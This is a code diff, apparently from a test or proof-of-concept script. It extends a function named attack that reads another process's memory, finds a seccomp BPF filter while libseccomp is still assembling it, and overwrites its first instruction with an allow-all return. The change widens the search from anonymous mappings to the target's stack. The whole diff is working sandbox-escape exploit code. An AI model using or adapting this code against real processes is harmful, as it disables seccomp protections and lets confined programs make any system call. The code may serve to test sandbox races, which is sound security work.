@@ -145,17 +145,17 @@ race() {
 	/* What libseccomp's filters begin with: the architecture is loaded */
 	static const struct sock_filter first = BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 4);
 	static const struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, 0x7fff0000);
-	static char page[4096];
+	static char area[64 << 10];
 
-	/* In an anonymous mapping, a filter in the making becomes one that allows all. */
-	static void attack(int pid, unsigned long at)
+	/* On the stack or in a mapping, a filter in the making becomes one that allows all. */
+	static void attack(int pid, unsigned long at, unsigned long n)
 	{
-		struct iovec l = { page, sizeof(page) }, r = { (void *)at, sizeof(page) };
-		if (process_vm_readv(pid, &l, 1, &r, 1, 0) != sizeof(page))
+		struct iovec l = { area, n }, r = { (void *)at, n };
+		if (process_vm_readv(pid, &l, 1, &r, 1, 0) != (ssize_t)n)
 			return;
-		for (unsigned i = 0; i + 2 * sizeof(first) <= sizeof(page); i += sizeof(first)) {
-			if (memcmp(page + i, &first, sizeof(first)) ||
-			    page[i + sizeof(first)] != (BPF_JMP | BPF_JEQ | BPF_K))
+		for (unsigned i = 0; i + 2 * sizeof(first) <= n; i += sizeof(first)) {
+			if (memcmp(area + i, &first, sizeof(first)) ||
+			    area[i + sizeof(first)] != (BPF_JMP | BPF_JEQ | BPF_K))
 				continue;
 			l = (struct iovec){ (void *)&allow, sizeof(allow) };
 			r = (struct iovec){ (void *)(at + i), sizeof(allow) };
@@ -180,10 +180,14 @@ race() {
 				snprintf(path, sizeof(path), "/proc/%d/maps", pid);
 				f = fopen(path, "r");
 				while (f && fgets(line, sizeof(line), f)) {
-					if (!strchr(line, '[') && sscanf(line,
-					    "%lx-%lx rw-p 00000000 00:00 0 %*c", &a, &b) == 2 &&
-					    b - a < (1 << 20))
-						attack(pid, a);
+					if (sscanf(line, "%lx-%lx rw-p 00000000 00:00 0 ", &a, &b) != 2 ||
+					    b - a >= (1 << 20))
+						continue;
+					if (strstr(line, "[stack]"))
+						attack(pid, b - sizeof(area) > a ? b - sizeof(area) : a,
+						       b - a < sizeof(area) ? b - a : sizeof(area));
+					else if (!strchr(line, '['))
+						attack(pid, a, 4096);
 				}
 				if (f)
 					fclose(f);
